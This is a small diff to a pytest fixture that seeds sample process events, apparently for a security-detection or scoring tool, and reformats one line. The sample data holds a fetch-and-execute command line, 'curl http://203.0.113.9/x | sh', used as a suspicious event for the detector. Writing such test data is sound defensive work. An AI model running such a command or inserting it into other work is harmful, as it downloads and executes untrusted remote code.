@@ -55,7 +55,9 @@ def shared(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[list[Work
     space = open_workspace(tmp_path_factory.mktemp("taught") / "w")
     events = [samples.event(1), samples.event(1, host="DB"), samples.event(40, 1, host="DB", image="C:\\Apps\\only.exe")]
     events += [samples.event(n, 1, image=f"C:\\Apps\\a{n}.exe") for n in range(2, 12)]
-    events += [samples.event(50 + n, 1, image="C:\\Apps\\a2.exe", command_line="curl http://203.0.113.9/x | sh") for n in range(3)]
+    events += [
+        samples.event(50 + n, 1, image="C:\\Apps\\a2.exe", command_line="curl http://203.0.113.9/x | sh") for n in range(3)
+    ]
     samples.fill(space, events)
     samples.score(space, grouped=True)
     other = open_workspace(space.folder)
